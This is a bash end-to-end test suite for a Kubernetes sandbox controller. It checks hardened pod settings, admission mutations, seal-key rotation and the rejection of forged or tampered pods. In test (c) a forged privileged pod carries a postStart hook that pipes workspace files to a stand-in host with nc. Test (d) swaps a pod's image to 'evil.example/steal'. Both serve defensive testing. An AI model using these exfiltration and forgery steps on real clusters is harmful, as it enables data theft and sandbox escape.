#!/usr/bin/env bash
# End-to-end: hardened sandbox pods and what may be adopted (contract section 4,
# issue 8 items 1, 7, 8, 10). A real mutating admission webhook (hack/mutator)
# injects a sidecar and pins images by digest; a user with pod rights forges a
# pod carrying a genuine seal; a bound pod is patched; the seal key rotates.
. "$(dirname "$0")/lib.sh"

IMG=registry.local/agent:1.0
MUTATOR_BIN=${SBX_MUTATOR_BIN:-$BUILD_DIR/mutator}

with_ctl() { # with_ctl CONFIG [flags...]: the one controller of a test
  local cfg=$1; shift
  controller_start "ctl-$(basename "$cfg" .yaml)" --config "$cfg" "$@"
  MAIN_CTL=$CTL_PID
}
stop_ctl() { controller_stop "$MAIN_CTL"; }

pod_of() { jp "$1" sandbox "$2" '{.status.podName}'; }
bound_reason() { jp "$1" sandbox "$2" '{.status.conditions[?(@.type=="Bound")].reason}'; }
ready_reason() { jp "$1" sandbox "$2" '{.status.conditions[?(@.type=="Ready")].reason}'; }
bound_message_has() { [[ "$(jp "$1" sandbox "$2" '{.status.conditions[?(@.type=="Bound")].message}')" == *"$3"* ]]; }
ready_reason_is() { [ "$(ready_reason "$1" "$2")" = "$3" ]; }
events_of() { # events_of NS NAME REASON -> how many such events (summing counts)
  kubectl get events -n "$1" --field-selector "involvedObject.name=$2,reason=$3" \
    -o jsonpath='{range .items[*]}{.count}{"\n"}{end}' 2>/dev/null | awk '{s += ($1 ? $1 : 1)} END {print s + 0}'
}

# sandbox_rc NS NAME RUNTIMECLASS KEY OWNER: a Sandbox that names a runtime class.
sandbox_rc() {
  kubectl apply -f - 2>&1 <<YAML
apiVersion: sandbox.dev/v1alpha1
kind: Sandbox
metadata: {name: $2, namespace: $1}
spec: {image: $IMG, runtimeClassName: $3, idempotencyKey: $4, workspaceOwner: $5}
YAML
}

setup() {
  cluster_up
  grant_controller_rbac
  kubectl apply -f - >/dev/null <<YAML
apiVersion: node.k8s.io/v1
kind: RuntimeClass
metadata: {name: gvisor}
handler: runsc
YAML
  cat >"$E2E_DIR/declared.yaml" <<YAML
pod:
  runtimeClasses: {allowed: [gvisor], default: gvisor}
adoption:
  allowedMutations:
    imageDigestPinning: true
    injectedContainers: [{name: sbx-sidecar, image: "registry.local/sidecar:*"}]
YAML
  # The storage hands owners' folders to the sandbox's uid itself: no
  # preparation pod (which the restricted profile refuses).
  { cat "$E2E_DIR/declared.yaml"; echo "workspace: {prepare: {enabled: false}}"; } >"$E2E_DIR/noprepare.yaml"
  cat >"$E2E_DIR/strict.yaml" <<YAML
pod:
  runtimeClasses: {allowed: [gvisor], default: gvisor}
YAML
  cat >"$E2E_DIR/hostpath.yaml" <<YAML
workspace: {mode: hostPath, hostPathRoot: /srv/sbx-ws}
YAML
  start_mutator
}

# start_mutator: hack/mutator on 127.0.0.1, registered for the controller's pods
# in namespaces labelled sbx-e2e/mutate=on.
start_mutator() {
  [ -x "$MUTATOR_BIN" ] || { say "mutator not built ($MUTATOR_BIN)"; exit 1; }
  mkdir -p "$E2E_DIR/mutator"
  "$MUTATOR_BIN" -cert-dir "$E2E_DIR/mutator" -port-file "$E2E_DIR/mutator/port" >"$E2E_DIR/mutator.log" 2>&1 &
  track_pid "$!"
  wait_for 20 test -s "$E2E_DIR/mutator/port" || { say "mutator did not start"; exit 1; }
  local port ca
  port=$(cat "$E2E_DIR/mutator/port")
  ca=$(base64 -w0 <"$E2E_DIR/mutator/tls.crt")
  kubectl apply -f - >/dev/null <<YAML
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata: {name: sbx-e2e-mutator}
webhooks:
- name: mutator.sbx-e2e.local
  clientConfig: {url: "https://127.0.0.1:$port/mutate", caBundle: "$ca"}
  rules: [{apiGroups: [""], apiVersions: [v1], operations: [CREATE], resources: [pods]}]
  objectSelector: {matchLabels: {app.kubernetes.io/managed-by: sandbox-controller}}
  namespaceSelector: {matchLabels: {sbx-e2e/mutate: "on"}}
  sideEffects: None
  admissionReviewVersions: [v1]
  failurePolicy: Fail
  timeoutSeconds: 5
YAML
  kubectl create namespace mut-probe >/dev/null
  kubectl label namespace mut-probe sbx-e2e/mutate=on >/dev/null
  wait_for 30 mutator_active || { say "the apiserver never called the mutator"; exit 1; }
}
mutator_active() {
  kubectl run probe -n mut-probe --image=$IMG --labels=app.kubernetes.io/managed-by=sandbox-controller \
    --dry-run=server -o jsonpath='{.spec.containers[*].name}' 2>/dev/null | grep -q sbx-sidecar
}

# (a) A Sandbox in a namespace enforcing the restricted Pod Security profile
# gets a pod the profile admits, and it runs. The workspace preparation pod
# (root with CHOWN, controller/sandbox/wsprep.h) is refused there, and the
# Sandbox says so; with workspace.prepare.enabled false (the storage hands
# the folders over, docs/operations.md) it gets its pod.
test_a_restricted_namespace() {
  new_namespace psa
  kubectl label namespace psa pod-security.kubernetes.io/enforce=restricted >/dev/null
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox psa r0 $IMG psa-prep alice >/dev/null
  wait_for 30 bound_message_has psa r0 'violates PodSecurity "restricted' ||
    fail "r0 does not say the restricted profile refused the preparation pod: $(jp psa sandbox r0 '{.status.conditions}')"
  expect_match "$(jp psa sandbox r0 '{.status.conditions[?(@.type=="Bound")].message}')" \
    '^creating pod sbx-init-[0-9a-f]{32}, which prepares the workspace folders of owner alice, failed \(Forbidden\)' \
    "r0's message names the preparation pod and the owner"
  expect_eq "$(pod_count psa)" 0 "sandbox pods of r0"
  stop_ctl
  with_ctl "$E2E_DIR/noprepare.yaml"
  sandbox psa r1 $IMG psa-key alice >/dev/null
  kubectl wait --for=condition=Ready sandbox/r1 -n psa --timeout=60s >/dev/null || fail "r1 never Ready: $(bound_reason psa r1) $(jp psa sandbox r1 '{.status.conditions}')"
  local p
  p=$(pod_of psa r1)
  expect_eq "$(jp psa pod "$p" '{.spec.securityContext.runAsNonRoot}')" true "runAsNonRoot"
  expect_eq "$(jp psa pod "$p" '{.spec.securityContext.runAsUser}')" 1000 "runAsUser"
  expect_eq "$(jp psa pod "$p" '{.spec.securityContext.seccompProfile.type}')" RuntimeDefault "seccomp"
  expect_eq "$(jp psa pod "$p" '{.spec.containers[0].securityContext.capabilities.drop[0]}')" ALL "drop ALL"
  expect_eq "$(jp psa pod "$p" '{.spec.containers[0].securityContext.allowPrivilegeEscalation}')" false "no escalation"
  expect_eq "$(jp psa pod "$p" '{.spec.automountServiceAccountToken}')" false "no token"
  expect_eq "$(jp psa pod "$p" '{.spec.enableServiceLinks}')" false "no service links"
  expect_eq "$(jp psa pod "$p" '{.spec.runtimeClassName}')" gvisor "the default runtime class"
  # A second Sandbox of the intent adopts the pod as the apiserver stored it.
  sandbox psa r2 $IMG psa-key alice >/dev/null
  wait_for 30 bound psa r2 || fail "r2 not bound: $(bound_reason psa r2)"
  expect_eq "$(pod_of psa r2)" "$p" "r2 adopted r1's pod"
  stop_ctl
}

# (b) Pods changed by the cluster's mutating admission in declared ways stay
# bindable; without the declaration the same pod is foreign.
test_b_declared_admission_mutations() {
  new_namespace mut
  kubectl label namespace mut sbx-e2e/mutate=on >/dev/null
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox mut m1 $IMG mut-key alice >/dev/null
  wait_for 30 bound mut m1 || fail "m1 not bound: $(bound_reason mut m1) $(jp mut sandbox m1 '{.status.conditions[0].message}')"
  local p
  p=$(pod_of mut m1)
  expect_eq "$(jp mut pod "$p" '{.spec.containers[*].name}')" "sandbox sbx-sidecar" "the sidecar was injected"
  expect_match "$(jp mut pod "$p" '{.spec.containers[0].image}')" "^$IMG@sha256:[0-9a-f]{64}$" "the image was pinned"
  expect_eq "$(jp mut sandbox m1 '{.status.binding}')" Created
  sandbox mut m2 $IMG mut-key alice >/dev/null
  wait_for 30 bound mut m2 || fail "m2 did not adopt the mutated pod: $(bound_reason mut m2)"
  expect_eq "$(pod_of mut m2)" "$p" "m2 adopted m1's pod"
  expect_eq "$(bound_reason mut m2)" PodAdopted
  kubectl wait --for=condition=Ready sandbox/m1 -n mut --timeout=30s >/dev/null ||
    fail "m1 not Ready (declared mutations must not read as tampering): $(ready_reason mut m1)"
  stop_ctl
  # The same cluster, a controller whose configuration declares nothing.
  with_ctl "$E2E_DIR/strict.yaml"
  sandbox mut m3 $IMG mut-key alice >/dev/null
  wait_for 30 has_reason mut m3 ForeignPodConflict || fail "m3: $(bound_reason mut m3), want ForeignPodConflict"
  expect_match "$(jp mut sandbox m3 '{.status.conditions[?(@.type=="Bound")].message}')" "sbx-sidecar|image" "the message says what differs"
  expect_eq "$(pod_count mut)" 1 "pods in mut"
  stop_ctl
}

# (c) mallory, who may create and delete pods, replaces a bound pod by one with
# the same labels, annotations and seal plus privileged, hostNetwork, a token
# and a postStart hook: a new Sandbox of the intent does not adopt it.
test_c_forged_pod_with_genuine_seal() {
  new_namespace forge
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox forge f1 $IMG forge-key alice >/dev/null
  wait_for 30 bound forge f1 || fail "f1 not bound"
  local p
  p=$(pod_of forge f1)
  stop_ctl
  kubectl get pod -n forge "$p" -o json >"$E2E_DIR/genuine.json"
  python3 - "$E2E_DIR/genuine.json" >"$E2E_DIR/forged.json" <<'PY'
import json, sys
pod = json.load(open(sys.argv[1]))
md = pod["metadata"]
pod["metadata"] = {k: md[k] for k in ("name", "namespace", "labels", "annotations")}
pod.pop("status", None)
spec = pod["spec"]
for k in ("nodeName", "priority", "preemptionPolicy"):
    spec.pop(k, None)
spec["hostNetwork"] = True
spec["automountServiceAccountToken"] = True
c = spec["containers"][0]
c["securityContext"] = {"privileged": True}
c["lifecycle"] = {"postStart": {"exec": {"command": ["sh", "-c", "cat /workspace/* | nc evil 80"]}}}
json.dump(pod, sys.stdout)
PY
  kubectl create role pod-rw -n forge --verb=create,delete,get,list,watch --resource=pods >/dev/null
  kubectl create rolebinding mallory -n forge --role=pod-rw --user=mallory >/dev/null
  local mk
  mk=$(user_kubeconfig mallory)
  KUBECONFIG=$mk kubectl delete pod -n forge "$p" --wait=true --timeout=60s >/dev/null || fail "mallory could not delete"
  KUBECONFIG=$mk kubectl create -f "$E2E_DIR/forged.json" >/dev/null || fail "mallory could not create the forged pod"
  expect_eq "$(jp forge pod "$p" '{.metadata.annotations.sandbox\.dev/seal}')" \
    "$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["metadata"]["annotations"]["sandbox.dev/seal"])' "$E2E_DIR/genuine.json")" \
    "the forged pod carries the genuine seal"
  expect_eq "$(jp forge pod "$p" '{.spec.containers[0].securityContext.privileged}')" true "the forged pod is privileged"
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox forge f2 $IMG forge-key alice >/dev/null
  wait_for 30 has_reason forge f2 ForeignPodConflict || fail "f2: $(bound_reason forge f2), want ForeignPodConflict"
  expect_eq "$(pod_of forge f2)" "" "nothing of the forged pod in f2's status"
  expect_ok bash -c "kubectl get events -n forge --field-selector involvedObject.name=f2,reason=ForeignPodRejected -o name | grep -q ."
  stop_ctl
}

# (d) A bound pod whose image is patched: Ready=False/PodTampered, one Warning
# event, nothing re-created.
test_d_tampered_bound_pod() {
  new_namespace tamper
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox tamper t1 $IMG tamper-key alice >/dev/null
  kubectl wait --for=condition=Ready sandbox/t1 -n tamper --timeout=60s >/dev/null || fail "t1 never Ready"
  local p uid
  p=$(pod_of tamper t1)
  uid=$(jp tamper pod "$p" '{.metadata.uid}')
  kubectl set image -n tamper "pod/$p" sandbox=evil.example/steal:latest >/dev/null || fail "patch failed"
  wait_for 30 ready_reason_is tamper t1 PodTampered || fail "t1 Ready reason $(ready_reason tamper t1), want PodTampered"
  expect_eq "$(jp tamper sandbox t1 '{.status.conditions[?(@.type=="Ready")].status}')" False
  expect_match "$(jp tamper sandbox t1 '{.status.conditions[?(@.type=="Ready")].message}')" "evil.example/steal" "the message names the change"
  wait_for 10 bash -c "[ \"\$(kubectl get events -n tamper --field-selector involvedObject.name=t1,reason=PodTampered,type=Warning -o name | wc -l)\" -ge 1 ]" ||
    fail "no PodTampered Warning event"
  # More pod updates (a label) do not repeat the event.
  kubectl label pod -n tamper "$p" touched=1 >/dev/null
  sleep 3
  expect_eq "$(events_of tamper t1 PodTampered)" 1 "PodTampered events"
  expect_eq "$(jp tamper pod "$p" '{.metadata.uid}')" "$uid" "the pod was not replaced"
  expect_eq "$(pod_count tamper)" 1 "pods in tamper"
  stop_ctl
}

# (e) A runtime class the configuration does not allow: Rejected/InvalidSpec.
test_e_runtime_class_not_allowed() {
  new_namespace rc
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox_rc rc runc-1 runc rc-key alice >/dev/null || fail "create refused"
  wait_for 30 has_reason rc runc-1 InvalidSpec || fail "runc-1: $(bound_reason rc runc-1), want InvalidSpec"
  expect_eq "$(jp rc sandbox runc-1 '{.status.phase}')" Rejected
  expect_match "$(jp rc sandbox runc-1 '{.status.conditions[?(@.type=="Bound")].message}')" 'runtimeClassName "runc" is not allowed.*gvisor'
  sandbox_rc rc gv-1 gvisor rc-key2 alice >/dev/null
  wait_for 30 bound rc gv-1 || fail "an allowed class was not served: $(bound_reason rc gv-1)"
  expect_eq "$(pod_count rc)" 1 "pods in rc"
  stop_ctl
}

# (f) Pods sealed with the old key are adopted after a rotation to [new, old];
# new pods are sealed with the new key.
test_f_seal_key_rotation() {
  # controller_start reads $E2E_DIR/seal.key, as a Deployment reads its Secret:
  # the rotation rewrites that one file (README "Rotating the seal key").
  new_namespace rot
  cp "$E2E_DIR/seal.key" "$E2E_DIR/old.key"
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox rot before $IMG rot-key alice >/dev/null
  wait_for 30 bound rot before || fail "before not bound"
  stop_ctl
  { head -c 48 /dev/urandom | base64; cat "$E2E_DIR/old.key"; } >"$E2E_DIR/seal.key"
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox rot after $IMG rot-key alice >/dev/null
  wait_for 30 bound rot after || fail "after rotation the old pod was not adopted: $(bound_reason rot after)"
  expect_eq "$(pod_of rot after)" "$(pod_of rot before)" "the same pod"
  kubectl wait --for=condition=Ready sandbox/before -n rot --timeout=30s >/dev/null ||
    fail "before not Ready after rotation: $(ready_reason rot before)"
  sandbox rot fresh $IMG rot-key-2 alice >/dev/null
  wait_for 30 bound rot fresh || fail "fresh not bound"
  stop_ctl
  # Only the new key: the old pod is foreign, the one sealed after the rotation is not.
  head -n1 "$E2E_DIR/seal.key" >"$E2E_DIR/new-only.key"
  cp "$E2E_DIR/new-only.key" "$E2E_DIR/seal.key"
  with_ctl "$E2E_DIR/declared.yaml"
  sandbox rot old-again $IMG rot-key alice >/dev/null
  sandbox rot fresh-again $IMG rot-key-2 alice >/dev/null
  wait_for 30 has_reason rot old-again ForeignPodConflict || fail "old-again: $(bound_reason rot old-again)"
  wait_for 30 bound rot fresh-again || fail "fresh-again: $(bound_reason rot fresh-again)"
  stop_ctl
  cp "$E2E_DIR/old.key" "$E2E_DIR/seal.key"
}

# (g) hostPath mode: one owner in two namespaces gets two folders.
test_g_hostpath_per_namespace() {
  new_namespace hp-a
  new_namespace hp-b
  with_ctl "$E2E_DIR/hostpath.yaml"
  sandbox hp-a s $IMG hp-key alice >/dev/null
  sandbox hp-b s $IMG hp-key alice >/dev/null
  wait_for 30 bound hp-a s || fail "hp-a/s not bound"
  wait_for 30 bound hp-b s || fail "hp-b/s not bound"
  local pa pb
  pa=$(kubectl get pod -n hp-a "$(pod_of hp-a s)" -o jsonpath='{range .spec.volumes[*]}{.hostPath.path} {end}')
  pb=$(kubectl get pod -n hp-b "$(pod_of hp-b s)" -o jsonpath='{range .spec.volumes[*]}{.hostPath.path} {end}')
  expect_eq "$pa" "/srv/sbx-ws/hp-a/alice/workspace /srv/sbx-ws/hp-a/alice/claude /srv/sbx-ws/hp-a/alice/codex /srv/sbx-ws/hp-a/alice/gemini " "hp-a's folders"
  expect_eq "$pb" "/srv/sbx-ws/hp-b/alice/workspace /srv/sbx-ws/hp-b/alice/claude /srv/sbx-ws/hp-b/alice/codex /srv/sbx-ws/hp-b/alice/gemini " "hp-b's folders"
  stop_ctl
}

setup
e2e_main
